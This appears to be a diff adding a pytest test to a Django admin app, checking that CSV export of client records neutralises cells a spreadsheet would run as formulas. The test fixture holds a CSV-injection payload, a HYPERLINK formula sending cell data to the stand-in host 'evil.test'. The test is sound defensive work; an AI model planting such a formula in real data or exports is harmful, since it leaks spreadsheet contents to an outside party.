@@ -187,6 +187,20 @@ def test_export_csv_shows_choice_labels_and_booleans_in_words(web):
     assert row[header.index("Activo")] == "Sí"
 
 
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(web):
+    # given an owner who typed a formula as their surname (through the API, say)
+    cliente = ClienteFactory(apellidos='=HYPERLINK("http://evil.test/?"&A1,"ver")', telefono="+34 611 000 000")
+
+    response = web(Rol.RECEPCIONISTA).post(
+        url("clientes.cliente", "changelist"), {"action": "export_csv", "_selected_action": [cliente.pk]}
+    )
+
+    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert row[header.index("Apellidos")] == "'" + cliente.apellidos
+    assert row[header.index("Teléfono")] == "'+34 611 000 000"
+    assert row[header.index("Nombre")] == cliente.nombre
+
+
 @pytest.mark.parametrize("label", sorted(ACCESS))
 def test_changelists_run_a_constant_number_of_queries(web, label, django_assert_max_num_queries):
     client = web(Rol.ADMIN)
